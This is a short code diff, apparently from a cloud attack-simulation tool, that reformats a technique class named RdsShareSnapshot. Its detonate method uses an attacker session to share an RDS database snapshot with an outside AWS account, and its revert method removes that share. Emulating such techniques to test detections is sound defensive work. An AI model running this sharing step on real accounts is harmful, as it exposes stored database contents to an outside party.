@@ -20,10 +20,14 @@ class RdsShareSnapshot(Technique):
 
     def detonate(self, ctx: Ctx, state: Json) -> None:
         client("rds", session=ctx.attacker()).modify_db_snapshot_attribute(
-            DBSnapshotIdentifier=ctx.res["db_snapshot"], AttributeName="restore", ValuesToAdd=[OUTSIDE_ACCOUNT]
+            DBSnapshotIdentifier=ctx.res["db_snapshot"],
+            AttributeName="restore",
+            ValuesToAdd=[OUTSIDE_ACCOUNT],
         )
 
     def revert(self, ctx: Ctx, state: Json) -> None:
         client("rds", session=ctx.admin()).modify_db_snapshot_attribute(
-            DBSnapshotIdentifier=ctx.res["db_snapshot"], AttributeName="restore", ValuesToRemove=[OUTSIDE_ACCOUNT]
+            DBSnapshotIdentifier=ctx.res["db_snapshot"],
+            AttributeName="restore",
+            ValuesToRemove=[OUTSIDE_ACCOUNT],
         )
